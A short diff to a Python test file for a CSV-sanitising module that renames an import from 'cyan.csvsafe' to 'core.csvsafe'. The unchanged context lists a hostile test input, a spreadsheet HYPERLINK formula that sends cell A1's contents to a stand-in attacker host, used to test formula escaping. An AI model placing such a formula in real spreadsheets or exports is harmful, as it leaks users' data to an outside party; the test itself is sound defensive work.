@@ -10,7 +10,7 @@ from decimal import Decimal
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cyan.csvsafe import FORMULA_PREFIXES, csv_text
+from core.csvsafe import FORMULA_PREFIXES, csv_text
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
